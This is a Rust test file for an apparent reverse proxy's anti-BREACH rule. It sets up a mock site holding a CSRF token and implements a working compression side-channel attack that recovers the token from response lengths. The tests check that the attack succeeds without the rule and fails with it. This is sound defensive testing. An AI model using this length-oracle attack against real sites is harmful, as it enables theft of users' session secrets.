//! BREACH: an attacker makes a victim's browser ask for a page with words of the attacker's choice, and sees the length of each
//! answer. So a secret on the page is found out. `examples/breach.cfg` has the rule against it.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

use crate::support;

use std::io::Write;
use support::Terse;
use support::client::Client;
use support::origin::{Origin, Request};

const EXAMPLE: &str = include_str!("../../../../examples/breach.cfg");
const DIGITS: &[u8] = b"0123456789abcdef";
const SECRET: &str = "csrf=7e1d94";
/// Text on every user's page before the secret that the attacker looks for.
const KNOWN: &str = "csrf=";

/// A site whose page holds the victim's secret and repeats the search term.
fn site() -> Origin {
    Origin::start(|request: &Request, stream| {
        let asked = request.line.split(' ').nth(1).and_then(|target| target.strip_prefix("/search?q=")).unwrap_or_default();
        let rows: String = (0..20).map(|n| format!("<li><a href=\"/item/{n}\">item number {n}</a></li>\n")).collect();
        let secret = if request.field("cookie") == Some("session=victim") { SECRET } else { "" };
        let page = format!(
            "<html><body><h1>Nothing found for {asked}</h1>\n<ul>\n{rows}</ul>\n<a href=\"/logout?{secret}\">log out</a>\n</body></html>\n"
        );
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nCache-Control: private\r\nContent-Length: {}\r\n\r\n",
            page.len()
        );
        let _ = stream.write_all(&[head.as_bytes(), page.as_bytes()].concat());
    })
}

/// The example in front of the site, with and without its rule.
fn start(origin: &Origin, with_rule: bool) -> (Terse, std::net::SocketAddr) {
    let is_rule = |line: &&str| line.trim_start().starts_with("compression unless");
    assert_eq!(EXAMPLE.lines().filter(is_rule).count(), 2);
    let text: String =
        EXAMPLE.lines().filter(|line| with_rule || !is_rule(line)).map(|line| format!("{line}\n")).collect::<String>();
    let text = text.replace("\"${LISTEN-192.0.2.1:8080}\"", "fd@${site}");
    assert!(text.contains("bind fd@"));
    let terse = Terse::with(&text).listen("site").env("ORIGIN", &origin.address().to_string()).start();
    let address = terse.address("site");
    (terse, address)
}

/// The victim's browser: it sends the requests of the attacker's page, with the cookie.
struct Browser {
    client: Client,
    /// Fields that tell which page asks.
    says: Vec<(&'static str, &'static str)>,
}

impl Browser {
    /// Length of the response: all that an eavesdropper sees.
    fn length(&mut self, asked: &str) -> usize {
        let always = [("Cookie", "session=victim"), ("Accept-Encoding", "gzip")];
        let fields: Vec<_> = always.into_iter().chain(self.says.iter().copied()).collect();
        let response = self.client.get(&format!("/search?q={asked}"), &fields);
        assert_eq!(response.status, 200);
        response.body.len()
    }
}

/// Returns the secret that an attacker finds. A guess that goes on as the secret does makes the answer a byte shorter. Lengths are
/// whole bytes, and codes of letters are not; requests with other letters around the guess even that out.
fn attack(browser: &mut Browser) -> Option<String> {
    let mut found = KNOWN.to_owned();
    while found.len() < SECRET.len() {
        let mut sums: Vec<(isize, u8)> = DIGITS.iter().map(|&digit| (score(browser, &found, digit), digit)).collect();
        sums.sort_unstable();
        // If no guess stands out there is nothing to go on with.
        let [(best, digit), (second, _), ..] = sums[..] else { return None };
        if best == second {
            return None;
        }
        found.push(char::from(digit));
    }
    Some(found)
}

/// Number of bytes that the answers are shorter where the digit follows the known part than where the same letters are in another
/// order.
fn score(browser: &mut Browser, found: &str, digit: u8) -> isize {
    let digit = char::from(digit);
    (0..=TAIL.len())
        .map(|n| {
            let tail = &TAIL[..n];
            let follows = browser.length(&format!("{found}{digit}{FILLER}{tail}"));
            follows as isize - browser.length(&format!("{found}{FILLER}{digit}{tail}")) as isize
        })
        .sum()
}

/// Letters that are nowhere else on the page.
const FILLER: &str = "QZXJKVWY";
/// Letters with codes of several lengths, so that not all answers end at the same place within a byte.
const TAIL: &str = "eonitdlr";

const CROSS_SITE: &[(&str, &str)] = &[("Sec-Fetch-Site", "cross-site"), ("Referer", "https://evil.test/page")];

#[test]
fn without_the_rule_the_secret_is_found() {
    let origin = site();
    let (terse, address) = start(&origin, false);
    let mut browser = Browser { client: Client::connect(address), says: CROSS_SITE.to_vec() };
    assert_eq!(attack(&mut browser).as_deref(), Some(SECRET));
    drop(browser);
    terse.end();
}

#[test]
fn with_the_rule_all_answers_are_as_long_as_their_pages() {
    let origin = site();
    let (terse, address) = start(&origin, true);
    for says in [
        CROSS_SITE.to_vec(),
        vec![("Sec-Fetch-Site", "same-site"), ("Referer", "http://other.test/")],
        vec![("Referer", "https://evil.test/test")],
        vec![("Origin", "https://evil.test"), ("Referer", "http://test/")],
        vec![],
    ] {
        let mut browser = Browser { client: Client::connect(address), says: says.clone() };
        assert_eq!(attack(&mut browser), None, "{says:?}");
        let lengths: Vec<usize> = DIGITS.iter().map(|digit| browser.length(&format!("{KNOWN}{}", char::from(*digit)))).collect();
        assert!(lengths.iter().all(|length| *length == lengths[0]), "{says:?}: {lengths:?}");
    }
    terse.end();
}

#[test]
fn the_sites_own_pages_and_those_without_credentials_are_still_compressed() {
    let origin = site();
    let (terse, address) = start(&origin, true);
    let mut client = Client::connect(address);
    let mut coding = |fields: &[(&str, &str)]| {
        let fields: Vec<_> = fields.iter().copied().chain([("Accept-Encoding", "gzip")]).collect();
        client.get("/search?q=x", &fields).field("content-encoding").map(str::to_owned)
    };
    let cookie = ("Cookie", "session=victim");
    for says in [
        &[("Sec-Fetch-Site", "same-origin"), cookie][..],
        &[("Sec-Fetch-Site", "none"), cookie],
        &[("Referer", "http://test/page"), cookie],
        &[("Origin", "http://test"), ("Referer", "http://evil.test/"), cookie],
        &[("Sec-Fetch-Site", "cross-site")],
        &[],
    ] {
        assert_eq!(coding(says).as_deref(), Some("gzip"), "{says:?}");
    }
    let authorized = ("Authorization", "Basic dmljdGltOng=");
    assert_eq!(coding(&[("Sec-Fetch-Site", "cross-site"), authorized]), None);
    terse.end();
}
